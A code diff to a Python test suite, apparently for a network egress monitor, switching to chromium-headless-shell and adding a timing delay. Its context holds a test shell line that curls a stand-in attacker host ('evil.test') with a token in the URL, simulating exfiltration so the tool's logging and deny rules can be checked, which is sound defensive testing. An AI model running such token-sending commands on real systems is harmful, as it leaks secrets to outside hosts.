@@ -39,7 +39,7 @@ class Log(View):
     @as_everyone
     def test_a_log_and_its_page_in_a_browser(self):
         need("curl")
-        need("chromium")
+        need("chromium-headless-shell")
         log = os.path.join(self.w, "log.jsonl")
         with Origin() as origin:
             got = self.run_sh("curl -s %s/good?token=geheim; curl -s http://evil.test/a?token=geheim; echo x >>%s; "
@@ -84,7 +84,7 @@ class Log(View):
     def browsed(self, url):
         """What a browser has made of a page."""
         profile = os.path.join(self.tmp, "browser")
-        done = subprocess.run(["chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
+        done = subprocess.run(["chromium-headless-shell", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                                "--user-data-dir=" + profile, "--dump-dom", "--virtual-time-budget=3000", url],
                               env=self.environment(), cwd=self.w, preexec_fn=self.preexec(), capture_output=True, timeout=120)
         shutil.rmtree(profile, ignore_errors=True)
@@ -126,6 +126,8 @@ class Top(View):
         top = self.terminal(["top", found.group(1)[:6]], env={"NO_COLOR": "1"}, rows=12, cols=60)
         top.expect(re.escape("%s  %d" % (found.group(1), run.pid)))
         self.assertFalse(termios.tcgetattr(top.fd)[3] & termios.ICANON)
+        # A run that has just looked whether somebody is there looks again after 0.25 s.
+        time.sleep(0.3)
         run.stdin.write(b"evil.test\ngood.test\n")
         run.stdin.flush()
         top.expect("deny +connect +evil.test:80: add")
